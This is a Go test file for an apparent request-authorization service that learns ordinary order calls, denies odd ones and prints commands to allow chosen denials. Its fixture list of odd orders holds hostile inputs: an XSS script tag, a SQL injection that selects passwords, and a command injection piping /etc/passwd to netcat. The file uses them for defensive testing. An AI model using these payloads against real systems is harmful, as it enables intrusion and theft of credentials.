package server

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"
)

// oddKinds are orders that are not ordinary, each for another reason; %d makes no two alike.
var oddKinds = []string{
	`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"please ring twice 0001","admin":"level %d"}`,
	`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"<script>alert(%d)</script>"}`,
	`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"%d' or '1'='1' union select password from users -- "}`,
	`{"item":"sku-0001","amount":1,"name":{"first":"Ada %d"},"note":"please ring twice 0001"}`,
	`{"item":"{{}} [] <> %d ~~~~ ^^^^ %%%% $$$$","amount":1,"name":"Ada Grace","note":"please ring twice 0001"}`,
	`{"item":"sku-0001","amount":9%d00000,"name":"Ada Grace","note":"please ring twice 0001"}`,
	`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"; cat /etc/passwd | nc 10.1.2.3 %d"}`,
	`{"item":"sku-0001","amount":1,"name":["Ada %d","Grace"],"note":"please ring twice 0001"}`,
}

// oddOf is the i-th of many orders that are not ordinary.
func oddOf(i int) *authv3.CheckRequest {
	return request("POST", "/orders", fmt.Sprintf(oddKinds[i%len(oddKinds)], 1000+i))
}

// from is the same call of another caller.
func from(q *authv3.CheckRequest, account string) *authv3.CheckRequest {
	q.Attributes.Source.Principal = "spiffe://m/ns/shop/sa/" + account
	return q
}

// TestFollowingExplainAllowsTheChosenDenialsAndNothingElse types what explain prints for 20 of 40 denials, and judges a corpus before and after: ordinary calls, the 40, and the neighbours of
// those that were chosen: what differs in the value alone, in the caller alone, in the field alone, in the operation alone.
func TestFollowingExplainAllowsTheChosenDenialsAndNothingElse(t *testing.T) {
	t.Parallel()
	const n, chosen = 40, 20
	r, f := learned(t, 400)
	if _, stderr, code := r.postern(t, "profile", "mode", "-callee", "shop/orders", "enforce"); code != 0 {
		t.Fatal(stderr)
	}
	var corpus []func() *authv3.CheckRequest
	for i := range n {
		corpus = append(corpus, func() *authv3.CheckRequest { return oddOf(i) })
	}
	for i := range n {
		swapped := strings.NewReplacer(`"name"`, `"note"`, `"note"`, `"name"`)
		corpus = append(corpus,
			func() *authv3.CheckRequest { return oddOf(i + n) },
			func() *authv3.CheckRequest { return from(oddOf(i), "mobile") },
			func() *authv3.CheckRequest {
				return request("POST", "/orders", swapped.Replace(string(oddOf(i).Attributes.Request.Http.RawBody)))
			},
			func() *authv3.CheckRequest {
				return request("PUT", "/orders", string(oddOf(i).Attributes.Request.Http.RawBody))
			},
			func() *authv3.CheckRequest { return order(1000 + i) })
	}
	ids := make([]string, len(corpus))
	judge := func() []bool {
		allowed := make([]bool, len(corpus))
		for i, q := range corpus {
			allowed[i], ids[i] = f.call(t, q(), 500) // a call that failed is not learned
		}
		return allowed
	}
	before := judge()
	if i := slices.Index(before[:n], true); i >= 0 {
		t.Fatalf("odd %d was allowed", i)
	}
	for i, id := range ids[:chosen] {
		commands := printed(t, r, id)
		if i%2 == 0 {
			commands = commands[:1] // all of them in one step
		} else {
			commands = commands[1:]
		}
		for _, command := range commands {
			if out, stderr, code := r.postern(t, words(t, command)...); code != 0 {
				t.Fatalf("%s: %s %s", command, out, stderr)
			}
		}
	}
	after := judge()
	counts := map[bool]int{}
	for i := range corpus {
		counts[before[i]]++
		if want := before[i] || i < chosen; after[i] != want {
			out := "it is allowed"
			if !after[i] {
				out, _, _ = r.postern(t, "explain", ids[i])
			}
			t.Errorf("call %d, allowed %v before, is allowed %v after; chosen: %v; %s\n%s", i, before[i], after[i], i < chosen, corpus[i]().Attributes.Request.Http.RawBody, out)
		}
	}
	t.Logf("of %d calls %d were denied before, %d of them chosen", len(corpus), counts[false], chosen)
	if counts[true] < n || counts[false] < 4*n {
		t.Errorf("too few are ordinary, or odd: %v", counts)
	}
}

// printed are the commands that explain prints: the one that does all, then those which it stands for.
func printed(t *testing.T, r *running, id string) (commands []string) {
	t.Helper()
	_ = explained(t, r, id) // waits until it is stored
	out, _, _ := r.postern(t, "explain", id)
	_, after, ok := strings.Cut(out, "\nto allow exactly this\n")
	for line := range strings.Lines(after) {
		if command := strings.TrimSpace(line); strings.HasPrefix(command, "postern ") {
			commands = append(commands, command)
		}
	}
	if !ok || len(commands) < 2 {
		t.Fatalf("explain names no commands: %s", out)
	}
	return commands
}
